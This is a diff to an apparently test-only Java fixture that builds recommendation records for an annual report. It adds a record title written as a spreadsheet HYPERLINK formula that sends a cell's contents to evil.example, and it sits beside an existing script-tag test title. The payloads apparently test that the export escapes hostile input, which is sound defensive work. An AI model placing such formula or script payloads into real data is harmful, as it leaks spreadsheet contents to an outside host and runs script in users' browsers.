@@ -49,7 +49,7 @@ import org.opcat.followup.query.EventLog;
  * R5  2025/V-020/R-01  2025-02-15  A    title is a script tag, text has quotes, commas, a line break;
  *                                       answer A 2025-03-17 ACCEPTED (30 d); implemented 2025-10-01
  * R6  2025/V-021/R-01  2025-05-05  B    recorded 2025-11-20 (back-dated); desk assessment 2025-09-01 IN_PROGRESS
- * R7  2025/V-022/R-01  2025-07-01  A    withdrawn 2025-08-01 ISSUED_IN_ERROR
+ * R7  2025/V-022/R-01  2025-07-01  A    title is a spreadsheet formula; withdrawn 2025-08-01 ISSUED_IN_ERROR
  * R8  2026/V-030/R-01  2026-02-01  A    after the year: in no 2025 report
  * </pre>
  */
@@ -77,6 +77,7 @@ final class AnnualReportFixture {
     static final String R5_TITLE = "<script>alert(1)</script>";
     static final String R5_TEXT = "Text with \"quotes\", commas, and\na second line";
     static final String R6_TITLE = "改善医疗服务";
+    static final String R7_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&B5,\"Duplicate entry\")";
     static final String LATE_LETTER = "我们不同意该建议。";
 
     /** Before the late letter was logged (2026-01-15): what a report pinned on 10 January 2026 knew. */
@@ -164,7 +165,7 @@ final class AnnualReportFixture {
                         "卫生部门报告", null), "analyst", at(d("2025-11-21")));
 
         log.recommendation(R7)
-                .then(issued(R7, "2025/V-022/R-01", "Duplicate entry", "Issued twice.", "2025-07-01", false, A),
+                .then(issued(R7, "2025/V-022/R-01", R7_TITLE, "Issued twice.", "2025-07-01", false, A),
                         "analyst", at(d("2025-07-01")))
                 .then(new RecommendationWithdrawn(R7, d("2025-08-01"), WithdrawalReason.ISSUED_IN_ERROR, null),
                         "analyst", at(d("2025-08-02")));
